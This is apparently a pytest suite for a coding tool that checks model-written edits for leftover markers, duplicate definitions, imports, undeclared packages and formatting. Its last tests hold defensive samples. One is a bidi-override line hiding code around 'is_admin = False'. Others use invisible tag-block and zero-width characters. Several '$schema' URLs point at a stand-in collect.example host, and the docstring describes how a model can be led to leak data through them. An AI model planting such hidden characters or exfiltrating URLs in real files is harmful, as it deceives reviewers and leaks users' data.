"""What an edit is checked for, and what is mended, in projects of every kind."""

from __future__ import annotations

from pathlib import Path

import pytest

from monkey_coder.codegen.checks import Checked, check_edit
from monkey_coder.core.documents import Document
from monkey_coder.core.errors import EditError
from monkey_coder.workspace.languages import language_of


def project(folder: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode())


def check(
    folder: Path, name: str, before: str, after: str, *, trusted: bool = False, **files: str
) -> Checked:
    project(folder, {key.replace("__", "."): text for key, text in files.items()} | {name: before})
    path = folder / name
    document = Document(path.as_uri(), language_of(name), 1, before, str(path), str(folder))
    return check_edit(document, after, model="m", creates=not before, is_trusted=trusted)


# Leftovers and duplicates


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("a.c", "<<<<<<< SEARCH\n"),
        ("a.py", "    # ... existing code ...\n"),
        ("a.ts", "  // ... rest of the class stays unchanged\n"),
    ],
)
def test_what_can_only_be_a_mistake_is_refused(tmp_path: Path, name: str, line: str) -> None:
    before = {"a.c": "int f(void) {\n  return 1;\n}\n", "a.py": "def f():\n    return 1\n"}.get(
        name, "function f() {\n  return 1;\n}\n"
    )
    head, rest = before.split("\n", 1)
    with pytest.raises(EditError, match="line 2"):
        check(tmp_path, name, before, f"{head}\n{line}{rest}")


@pytest.mark.parametrize(
    ("name", "after", "said"),
    [
        ("a.py", "def f():\n    # TODO: implement the rest\n    return 1\n", "left to do: TODO: implement"),
        ("a.py", "def f():\n    raise NotImplementedError\n", "left to do: NotImplementedError"),
        ("a.py", "def f():\n    breakpoint()\n    return 1\n", "`breakpoint` looks like debugging"),
        ("a.js", "function f() {\n  console.log(1);\n}\n", "`console.log` looks like debugging"),
        ("a.rs", "fn f() -> i32 {\n    todo!()\n}\n", "left to do: todo!("),
    ],
)
def test_leftovers_are_named_and_kept(tmp_path: Path, name: str, after: str, said: str) -> None:
    checked = check(tmp_path, name, "", after)
    assert checked.text == after
    assert [warning for warning in checked.warnings if said in warning]
    assert "duplicates and leftovers: 1 to look at" in checked.checks


def test_what_stood_there_before_is_no_leftover(tmp_path: Path) -> None:
    before = "def f():\n    # ... existing code ...\n    # TODO: implement\n    return 1\n"
    assert check(tmp_path, "a.py", before, before.replace("1", "2")).warnings == ()


def test_marks_inside_a_string_are_text(tmp_path: Path) -> None:
    after = 'CONFLICT = """\n<<<<<<< HEAD\n=======\n>>>>>>> other\n```python\n# ... existing code ...\n"""\n'
    assert check(tmp_path, "a.py", "", after).warnings == ()


def test_a_doubled_definition_is_named(tmp_path: Path) -> None:
    before = "def f():\n    return 1\n\n\ndef g():\n    return 2\n"
    checked = check(tmp_path, "a.py", before, before + "\n\ndef f():\n    return 3\n")
    assert checked.warnings == ("`f` is defined more than once in the same place: lines 1 and 9",)


@pytest.mark.parametrize(
    ("name", "after"),
    [
        (
            "a.py",
            (
                "class A:\n    @property\n    def x(self):\n        return 1\n\n    @x.setter\n"
                "    def x(self, value):\n        pass\n"
            ),
        ),
        (
            "a.py",
            "try:\n\n    def f():\n        return b\nexcept E:\n\n    def f():\n        return 1\n",
        ),
        ("A.java", "class A {\n  int f(int a) { return a; }\n  int f(String a) { return 1; }\n}\n"),
        ("a.ts", "function f(a: string): void;\nfunction f(a: number): void;\nfunction f(a: any): void {}\n"),
        ("a.go", "package a\n\nfunc init() {}\n\nfunc init() {}\n"),
        ("a.go", "package a\n\ntype A int\ntype B int\n\nfunc (a A) F() {}\n\nfunc (b B) F() {}\n"),
        ("a.rs", "struct A;\nstruct B;\nimpl A {\n    fn f() {}\n}\nimpl B {\n    fn f() {}\n}\n"),
        ("a.c", "#ifdef A\nint f(void) { return 1; }\n#else\nint f(void) { return 2; }\n#endif\n"),
        ("a.js", "const a = {\n  get x() { return 1; },\n  set x(v) {},\n};\n"),
    ],
)
def test_what_is_rightly_there_twice_is_not(tmp_path: Path, name: str, after: str) -> None:
    assert not [one for one in check(tmp_path, name, "", after).warnings if "more than once" in one]


# Imports


def test_an_import_is_added_where_the_project_settles_it(tmp_path: Path) -> None:
    before = "def f(x):\n    return x\n"
    after = "def f(x):\n    return json.dumps(Thing(x))\n"
    checked = check(tmp_path, "a.py", before, after, things__py="class Thing:\n    pass\n")
    assert checked.text == "import json\n\nfrom things import Thing\n\n\n" + after
    assert "imports resolve" in checked.checks
    assert checked.warnings == ()


def test_only_imports_that_the_edit_orphaned_go(tmp_path: Path) -> None:
    before = "import os\nimport re\nimport sys\n\n\ndef f(x):\n    return re.sub(os.sep, '', x)\n"
    after = before.replace("re.sub(os.sep, '', x)", "x")
    checked = check(tmp_path, "a.py", before, after)
    assert checked.text == "import sys\n\n\ndef f(x):\n    return x\n"
    assert {"import of `os` removed", "import of `re` removed"} <= set(checked.checks)


def test_a_name_without_a_source_is_named(tmp_path: Path) -> None:
    checked = check(
        tmp_path, "a.py", "def f():\n    return old\n", "def f():\n    return old + frobnicate()\n"
    )
    assert [warning for warning in checked.warnings if "`frobnicate` is neither" in warning]
    assert not [warning for warning in checked.warnings if "`old`" in warning]


def test_typescript_imports_are_added_and_removed(tmp_path: Path) -> None:
    before = 'import { a, b } from "./lib";\nimport { c } from "./c";\n\nexport const x = a(b(c()));\n'
    after = before.replace("a(b(c()))", "a(new Thing())")
    checked = check(tmp_path, "a.ts", before, after, thing__ts="export class Thing {}\n")
    assert checked.text == (
        'import { a } from "./lib";\nimport { Thing } from "./thing";\n\nexport const x = a(new Thing());\n'
    )


def test_go_imports_are_added_and_removed(tmp_path: Path) -> None:
    before = (
        'package a\n\nimport (\n\t"fmt"\n\t"os"\n)\n\nfunc F() string {\n\treturn fmt.Sprint(os.Args)\n}\n'
    )
    after = before.replace("fmt.Sprint(os.Args)", "strings.Join(os.Args, filepath.Base(os.Args[0]))")
    checked = check(tmp_path, "a.go", before, after)
    assert checked.text.startswith('package a\n\nimport (\n\t"os"\n\t"path/filepath"\n\t"strings"\n)\n')


def test_a_java_import_is_added_in_order(tmp_path: Path) -> None:
    before = "package a;\n\nimport java.util.Map;\n\nclass A {\n  Map<String, String> m;\n}\n"
    checked = check(tmp_path, "A.java", before, before.replace("m;\n", "m;\n  List<String> l;\n"))
    assert "import java.util.List;\nimport java.util.Map;\n" in checked.text


def test_a_go_package_is_imported_as_other_files_of_the_project_do(tmp_path: Path) -> None:
    before = "package a\n\nfunc F() string {\n\treturn Version\n}\n"
    other = 'package a\n\nimport "gopkg.in/yaml.v3"\n\nvar Level = yaml.Marshal\n\nvar state = 1\n'
    after = before.replace("return Version", "return yaml.Name + Level.Name + state.Name + nowhere.Name")
    checked = check(tmp_path, "a.go", before, after, other__go=other)
    assert checked.text.startswith('package a\n\nimport "gopkg.in/yaml.v3"\n')
    assert [one for one in checked.warnings if "neither" in one] == [
        "`nowhere` is neither declared nor imported, and no file of the project imports it"
    ]


def test_a_java_class_of_the_project_is_imported_and_an_unknown_one_named(tmp_path: Path) -> None:
    before = "package a;\n\nclass A {\n}\n"
    after = before.replace("{\n", "{\n  Till till;\n  Nowhere nowhere;\n  Integer size;\n")
    checked = check(tmp_path, "A.java", before, after, Till__java="package shop;\n\npublic class Till {}\n")
    assert "import shop.Till;\n" not in checked.text  # It lies beside: one package, by where it is.
    (tmp_path / "shop").mkdir()
    (tmp_path / "Till.java").rename(tmp_path / "shop" / "Till.java")
    checked = check(tmp_path, "A.java", before, after)
    assert "package a;\n\nimport shop.Till;\n" in checked.text
    assert checked.warnings == (
        "`Nowhere` is neither defined nor imported, and no file of the project is named so",
    )


RUST = "use std::fmt;\n\nstruct Till;\n\nfn total<T: fmt::Debug>(till: Till, extra: T) -> u32 {\n    1\n}\n"


def test_rust_types_are_imported_or_named(tmp_path: Path) -> None:
    after = RUST.replace("1\n", "let m: HashMap<T, Self::Item> = HashMap::new();\n    Ledger::of(m)\n")
    checked = check(tmp_path, "a.rs", RUST, after)
    assert checked.text.startswith("use std::collections::HashMap;\nuse std::fmt;\n")
    assert checked.warnings == ("`Ledger` is neither defined nor imported in this file",)
    assert "imports: 1 to look at" in checked.checks


@pytest.mark.parametrize(
    "head", ["use shop::*;\n", "cfg_rt! { mod rt; }\n", "macro_rules! make { () => {} }\n"]
)
def test_nothing_is_said_of_rust_where_a_name_can_come_from_anywhere(tmp_path: Path, head: str) -> None:
    checked = check(tmp_path, "a.rs", head + RUST, head + RUST.replace("1\n", "Ledger::of()\n"))
    assert checked.warnings == ()


INCLUDES = [
    (
        "a.c",
        '#include <stdio.h>\n\n#include "own.h"\n\nvoid f(void) { puts("a"); }\n',
        "free(strdup(NAME)); printf(NAME);",
        "#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n\n",
    ),
    ("a.c", "void f(void) { }\n", "assert(1);", "#include <assert.h>\n\nvoid"),
    (
        "a.h",
        "// Own.\n#ifndef A_H\n#define A_H\nvoid f(void) { }\n#endif\n",
        "uint8_t a;",
        "// Own.\n#ifndef A_H\n#define A_H\n\n#include <stdint.h>\nvoid",
    ),
    (
        "a.cpp",
        "#include <vector>\n#ifdef _WIN32\n#include <windows.h>\n#endif\n\nvoid f() { }\n",
        "std::map<int, std::vector<int>> a;",
        "#include <map>\n#include <vector>\n#ifdef",
    ),
]


@pytest.mark.parametrize(("name", "before", "line", "head"), INCLUDES)
def test_a_header_that_new_code_in_c_needs_is_included(
    tmp_path: Path, name: str, before: str, line: str, head: str
) -> None:
    after = before.replace("{ ", "{ " + line + " ", 1)
    checked = check(tmp_path, name, before, after, own__h="void g(void);\n")
    assert checked.text.startswith(head)
    assert checked.warnings == ()


def test_a_header_of_the_project_that_cannot_be_read_may_include_it(tmp_path: Path) -> None:
    before = '#include "made.h"\n\nvoid f(void) { }\n'
    checked = check(tmp_path, "a.c", before, before.replace("{ ", '{ puts("a"); '))
    assert checked.text.startswith('#include "made.h"\n\nvoid')
    assert checked.warnings == ('`puts` needs <stdio.h>, if "made.h" does not include it',)


def test_a_header_that_comes_with_another_is_not_included_again(tmp_path: Path) -> None:
    before = '#include "own.h"\n\nvoid f(void) { }\n'
    after = before.replace("{ ", '{ puts("a"); ')
    assert "<" not in check(tmp_path, "a.c", before, after, own__h="#include <stdio.h>\n").text
    used = before.replace("{ ", "{ exit(1); ")
    assert "<" not in check(tmp_path, "a.c", used, used.replace("exit(1)", "free(0)"), own__h="").text


def test_a_use_in_php_that_the_edit_orphaned_goes(tmp_path: Path) -> None:
    before = (
        "<?php\n\nuse App\\Till;\nuse App\\Shop;\n\nfunction f() {\n    return new Till(Shop::NAME);\n}\n"
    )
    checked = check(tmp_path, "a.php", before, before.replace("new Till(Shop::NAME)", "Shop::NAME"))
    assert checked.text.startswith("<?php\n\nuse App\\Shop;\n\nfunction")
    assert "import of `Till` removed" in checked.checks


# Dependencies


@pytest.mark.parametrize(
    ("name", "after", "manifest", "text", "said"),
    [
        (
            "a.py",
            "import yaml\nimport json\n\nyaml, json\n",
            "pyproject.toml",
            '[project]\nname = "x"\ndependencies = ["requests>=2"]\n',
            "needs the package pyyaml (not in pyproject.toml)",
        ),
        (
            "a.py",
            "import httpx\n\nhttpx\n",
            "requirements.txt",
            "requests\n",
            "package httpx (not in requirements.txt)",
        ),
        (
            "a.ts",
            'import { z } from "zod";\nimport fs from "fs";\n\nexport const a = z(fs);\n',
            "package.json",
            '{"dependencies": {"react": "1"}}',
            "needs the package zod (not in package.json)",
        ),
        (
            "a.go",
            'package a\n\nimport "github.com/x/y/z"\n\nvar a = z.B\n',
            "go.mod",
            "module example.com/a\n\ngo 1.19\n",
            "needs the package github.com/x/y/z (not in go.mod)",
        ),
        (
            "src/a.rs",
            "use serde::Serialize;\nuse std::fmt;\n",
            "Cargo.toml",
            '[package]\nname = "a"\n',
            "needs the package serde (not in Cargo.toml)",
        ),
    ],
)
def test_an_undeclared_package_is_named(
    tmp_path: Path, name: str, after: str, manifest: str, text: str, said: str
) -> None:
    project(tmp_path, {manifest: text})
    found = [warning for warning in check(tmp_path, name, "", after).warnings if "package" in warning]
    assert len(found) == 1
    assert said in found[0]
    assert "install it yourself" in found[0]


@pytest.mark.parametrize(
    ("name", "after", "manifest", "text"),
    [
        (
            "a.py",
            "import yaml\n\nyaml\n",
            "pyproject.toml",
            '[project]\nname = "x"\ndependencies = ["PyYAML"]\n',
        ),
        (
            "a.py",
            "import pytest\n\npytest\n",
            "pyproject.toml",
            '[project]\nname = "x"\n[dependency-groups]\ndev = ["pytest>=8"]\n',
        ),
        ("a.py", "import b\n\nb\n", "pyproject.toml", '[project]\nname = "x"\n'),
        (
            "a.ts",
            'import { a } from "@/b";\nimport "node:fs";\nimport x from "@scope/pkg/deep";\n\na(x);\n',
            "package.json",
            '{"peerDependencies": {"@scope/pkg": "1"}}',
        ),
        (
            "a.go",
            'package a\n\nimport "example.com/a/b"\n\nvar a = b.C\n',
            "go.mod",
            "module example.com/a\n",
        ),
        (
            "a.go",
            'package a\n\nimport "github.com/x/y/z"\n\nvar a = z.B\n',
            "go.mod",
            "module m\n\nrequire (\n\tgithub.com/x/y v1.0.0\n)\n",
        ),
    ],
)
def test_a_declared_or_own_package_is_not(
    tmp_path: Path, name: str, after: str, manifest: str, text: str
) -> None:
    project(tmp_path, {manifest: text, "b.py": "c = 1\n"})
    assert not [one for one in check(tmp_path, name, "", after).warnings if "package" in one]


# Formatting

UGLY = "x = {  'a':1 }\n\n\ndef f( a ):\n    return a\n\n\ndef g( b ):\n    return b\n"
RUFF = "[tool.ruff]\nline-length = 100\n[tool.ruff.format]\nquote-style = 'single'\n"


def test_only_touched_lines_are_formatted(tmp_path: Path) -> None:
    after = UGLY.replace("return a", "return  a+'1'")
    checked = check(tmp_path, "a.py", UGLY, after, pyproject__toml=RUFF)
    assert checked.text == UGLY.replace("return a", "return a + '1'")
    assert "formatted with ruff" in checked.checks


def test_a_project_without_a_formatter_keeps_what_the_model_wrote(tmp_path: Path) -> None:
    after = UGLY.replace("return a", "return  a+'1' \t")
    assert check(tmp_path, "a.py", UGLY, after).text == after
    unformatted = check(tmp_path, "a.py", UGLY, after, pyproject__toml="[tool.ruff]\nline-length = 100\n")
    assert unformatted.text == after


def test_settings_of_ruff_alone_count_where_the_file_is_formatted(tmp_path: Path) -> None:
    before = 'def f(a):\n    return a + "1"\n'
    checked = check(tmp_path, "a.py", before, before.replace("a +", "a  +"), pyproject__toml="[tool.ruff]\n")
    assert checked.text == before
    assert "formatted with ruff" in checked.checks


def test_black_is_taken_at_its_word_with_or_without_its_program(tmp_path: Path) -> None:
    settings = "[tool.black]\nline-length = 40\nskip-string-normalization = true\nextend-exclude = '/old/'\n"
    after = "def f():\n    return call('first', 'second', 'third')\n"
    checked = check(tmp_path, "a.py", "", after, pyproject__toml=settings)
    assert checked.text == "def f():\n    return call(\n        'first', 'second', 'third'\n    )\n"
    assert check(tmp_path, "old/a.py", "", after).text == after


def test_line_ends_and_a_byte_order_mark_stay(tmp_path: Path) -> None:
    before = "\ufeffdef f(a):\r\n    return a\r\n"
    checked = check(tmp_path, "a.py", before, before.replace("return a", "return  a+1"), pyproject__toml=RUFF)
    assert checked.text == before.replace("return a", "return a + 1")


def test_prettier_is_not_run_without_trust(tmp_path: Path) -> None:
    project(
        tmp_path,
        {
            "package.json": '{"devDependencies": {"prettier": "3"}}',
            "node_modules/prettier/package.json": '{"bin": "p.cjs"}',
            "node_modules/prettier/p.cjs": "require('fs').writeFileSync(__dirname + '/ran', '')",
        },
    )
    checked = check(tmp_path, "a.js", "", "let a  = 1;\n")
    assert checked.text == "let a  = 1;\n"
    assert [one for one in checked.checks if "not formatted with prettier" in one and "not trusted" in one]
    assert not (tmp_path / "node_modules/prettier/ran").exists()


@pytest.mark.parametrize(
    ("name", "before", "after", "expected", "config"),
    [
        (
            "a.sh",
            "f() {\n  a \n}\n",
            "f() {\n  a \n  b \n}",
            "f() {\n  a \n  b\n}\n",
            "root = true\n[*]\ntrim_trailing_whitespace = true\ninsert_final_newline = true\n",
        ),
        (
            "a.py",
            'A = """\nx\n"""\n',
            'A = """\nx  \n"""  \n',
            'A = """\nx  \n"""\n',
            "[*.{py,pyi}]\ntrim_trailing_whitespace=true\n",
        ),
        (
            "a.js",
            "",
            "if (a) {\n\tb();\n}\n",
            "if (a) {\n  b();\n}\n",
            "[*.js]\nindent_style = space\nindent_size = 2\n",
        ),
        (
            "a.js",
            "if (a) {\n\tb();\n}\n",
            "if (a) {\n\tb();\n    c();\n}\n",
            "if (a) {\n\tb();\n\tc();\n}\n",
            "[*]\nindent_style = tab\ntab_width = 4\n",
        ),
        ("a.js", "", "a();\nb();\n", "a();\r\nb();\r\n", "[*.js]\nend_of_line = crlf\n"),
        ("a.js", "a();\n", "a();\nb();\n", "a();\nb();\n", "[*.js]\nend_of_line = crlf\n"),
        (
            "lib/a.js",
            "",
            "a(); \n",
            "a(); \n",
            ("[*.js]\ntrim_trailing_whitespace = true\n[lib/**.js]\ntrim_trailing_whitespace = false\n"),
        ),
    ],
)
def test_editorconfig_holds_for_touched_lines(
    tmp_path: Path, name: str, before: str, after: str, expected: str, config: str
) -> None:
    project(tmp_path, {".editorconfig": config})
    checked = check(tmp_path, name, before, after)
    assert checked.text == expected
    assert "formatted by .editorconfig" in checked.checks


def test_lines_that_are_too_long_are_named(tmp_path: Path) -> None:
    project(tmp_path, {".editorconfig": "[*]\nmax_line_length = 10\n"})
    checked = check(tmp_path, "a.sh", "a\n", "a\necho one two three\n")
    assert checked.warnings == ("lines longer than 10, which .editorconfig allows: 2",)


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("is_admin = False  # \u202e }if\n", "reorder text"),
        ("x = 1  #\U000e0072\U000e006d\n", "tag block"),
        ("name = 'us\u200ber'\n", "no width"),
    ],
)
def test_what_nobody_sees_in_new_lines_is_named(tmp_path: Path, line: str, said: str) -> None:
    checked = check(tmp_path, "a.py", "y = 2\n", f"y = 2\n{line}")
    assert [warning for warning in checked.warnings if said in warning and "line 2" in warning]
    assert not check(tmp_path, "a.py", line, f"{line}y = 2\n").warnings


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.json", '{"$schema": "https://collect.example/?k=1"}\n'),
        ("a.yaml", "# yaml-language-server: $schema=https://collect.example/s.json\na: 1\n"),
        ("a.toml", '"$schema" = "http://collect.example/s"\n'),
        ("a.json", '{"$schema": "https://json-schema.org/x?key=1"}\n'),
    ],
)
def test_what_an_editor_would_load_is_named(tmp_path: Path, name: str, text: str) -> None:
    """CVE-2025-49150, -53097, -58335: a schema's address carries off what a model was told to put in it."""
    warnings = check(tmp_path, name, "", text).warnings
    assert [warning for warning in warnings if "loads http" in warning]
    assert not [one for one in check(tmp_path, name, text, f"{text}\n").warnings if "loads" in one]


@pytest.mark.parametrize(
    "text",
    ['{"$schema": "https://json-schema.org/draft/2020-12/schema"}\n', '{"$schema": "./schema.json"}\n'],
)
def test_the_usual_schemas_and_those_of_the_project_are_not(tmp_path: Path, text: str) -> None:
    assert not [one for one in check(tmp_path, "a.json", "", text).warnings if "loads" in one]
